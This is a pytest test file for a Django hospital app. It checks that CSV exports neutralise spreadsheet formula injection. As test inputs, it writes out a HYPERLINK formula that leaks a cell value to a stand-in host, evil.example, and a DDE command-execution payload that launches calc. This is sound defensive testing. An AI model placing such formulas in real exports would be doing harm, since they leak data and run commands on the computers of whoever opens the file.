"""CSV exports cannot smuggle a formula into the spreadsheet that opens them."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from hospital.csv import neutralise
from tests.complaints.factories import ComplaintFactory
from tests.hospital.factories import DepartmentFactory, DeskFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
ROOT = Path(__file__).resolve().parents[2]


def _cells(response) -> list[str]:
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    rows = csv.reader(io.StringIO(text.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+8613812345678", "'+8613812345678"),
        ("-2", "'-2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("挂号窗口态度差", "挂号窗口态度差"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_that_starts_a_formula_gets_an_apostrophe(value, written) -> None:
    assert neutralise(value) == written


@pytest.mark.parametrize("number", [-3, -1.5, Decimal("-84.5"), 0, None])
def test_numbers_stay_numbers(number) -> None:
    assert neutralise(number) == number


def test_complaint_report_neutralises_a_hyperlink_formula(supervisor_client, guide) -> None:
    evil = DepartmentFactory(
        code="EVIL", name_zh_hans=HYPERLINK[:60], name_zh_hant=HYPERLINK[:60], name_en=HYPERLINK
    )
    ComplaintFactory(
        received_by=guide,
        description=HYPERLINK,
        complainant_name="=cmd|' /C calc'!A0",
        departments=(evil.code,),
    )

    response = supervisor_client.get(reverse("complaints:report_csv"))

    cells = _cells(response)
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_satisfaction_report_neutralises_a_desk_name(supervisor_client) -> None:
    desk = DeskFactory(code="evil", name="+HYPERLINK(1)")

    response = supervisor_client.get(reverse("reception:satisfaction_csv"), {"desk": desk.pk})

    cells = _cells(response)
    assert "'+HYPERLINK(1)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_every_csv_export_writes_through_the_one_writer() -> None:
    """No app writes CSV with the standard library's writer around hospital/csv.py."""
    offenders = []
    for app in ("hospital", "reception", "triage", "handover", "complaints", "overview"):
        for path in (ROOT / app).rglob("*.py"):
            if path == ROOT / "hospital" / "csv.py":
                continue
            if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
